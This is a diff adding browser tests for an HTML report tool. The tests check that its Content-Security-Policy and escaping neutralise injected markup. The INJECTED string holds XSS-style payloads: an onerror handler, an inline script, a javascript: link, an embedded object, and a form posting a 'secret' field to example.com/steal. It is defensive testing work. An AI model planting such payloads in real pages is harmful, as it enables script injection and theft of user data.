@@ -6,6 +6,7 @@ node colours), not a blank page. A page that does fetch or fail is caught (the c
 Needs the Debian package ``chromium`` (``.ci/run`` installs it when missing)."""
 
 import json
+import re
 from pathlib import Path
 
 import numpy as np
@@ -74,3 +75,60 @@ def test_the_harness_catches_errors_fetches_and_exceptions(tmp_path):
     assert visit.outside_requests == ["request to http://example.com/a.png"]
     image = decode_png(visit.screenshot)
     assert all(pixels_of(image, c) == 0 for c in (EXECUTED_FILL, IR_FILL, GUARD_FILL))
+
+
+# What markup that escaped escaping could try: each, if it ran, says so on the console.
+INJECTED = ('<img src="x" onerror="console.error(\'ran: onerror\')">'
+            '<script>console.error("ran: script")</script>'
+            '<a id="injected-link" href="javascript:console.error(\'ran: link\')">link</a>'
+            '<form id="injected-form" action="http://example.com/steal" method="post">'
+            '<input name="secret" value="1"></form>'
+            '<object data="http://example.com/plugin"></object>')
+SUBMIT = """(function () {
+  document.getElementById('injected-link').click();
+  document.getElementById('injected-form').submit();
+  return document.querySelectorAll('g.node').length;
+}())"""
+
+
+def test_the_policy_runs_no_script_but_the_pages_own_and_posts_no_form(tmp_path):
+    spec = tmp_path / "seed_dynamic.yaml"
+    spec.write_text((SPECS / "seed_dynamic.yaml").read_text())
+    result = CliRunner().invoke(app, ["report", str(spec), "--out-dir", str(tmp_path)])
+    assert result.exit_code == 0, result.stderr
+    text = (tmp_path / "seed_dynamic" / "report.html").read_text()
+    policy = re.search(r'http-equiv="Content-Security-Policy" content="([^"]*)"', text).group(1)
+    assert "unsafe-inline" not in policy.split("script-src")[1].split(";")[0]
+    for directive in ("form-action 'none'", "base-uri 'none'", "object-src 'none'"):
+        assert directive in policy
+    page = tmp_path / "injected.html"
+    page.write_text(text.replace("</main>", INJECTED + "</main>"))
+    visit = open_page(page.as_uri(), expression=SUBMIT, settle_s=1.0)
+    assert visit.value > 20  # the page's own script drew its viewers
+    assert not any("ran:" in e for e in visit.console_errors), visit.console_errors
+    assert visit.outside_requests == [] and visit.exceptions == []
+    refused = " ".join(visit.log_errors)
+    assert "Content Security Policy" in refused and "form-action" in refused
+
+
+def test_markup_in_the_artifacts_is_text_in_the_browser(tmp_path):
+    spec = tmp_path / "seed_dynamic.yaml"
+    spec.write_text((SPECS / "seed_dynamic.yaml").read_text())
+    out = tmp_path / "out"
+    assert CliRunner().invoke(app, ["report", str(spec), "--train", "--out-dir",
+                                    str(out)]).exit_code == 0
+    folder = out / "seed_dynamic"
+    run = json.loads((folder / "run.json").read_text())
+    run["path"][1]["predicate"] = INJECTED
+    run["static"]["passes"][0]["name"] = INJECTED
+    run["static"]["passes"][0]["notes"] = [INJECTED]
+    (folder / "run.json").write_text(json.dumps(run))
+    csv_text = (folder / "train.csv").read_text()
+    (folder / "train.csv").write_text(csv_text.replace("loss", '"' + INJECTED.replace(
+        '"', '""') + '"', 1))
+    result = CliRunner().invoke(app, ["report", str(spec), "--train", "--out-dir", str(out)])
+    assert result.exit_code == 0, result.stderr
+    visit = open_page((folder / "report.html").as_uri(),
+                      expression="document.querySelectorAll('img, object, form').length")
+    assert visit.value == 0
+    assert visit.problems() == []  # nothing ran, nothing was even refused
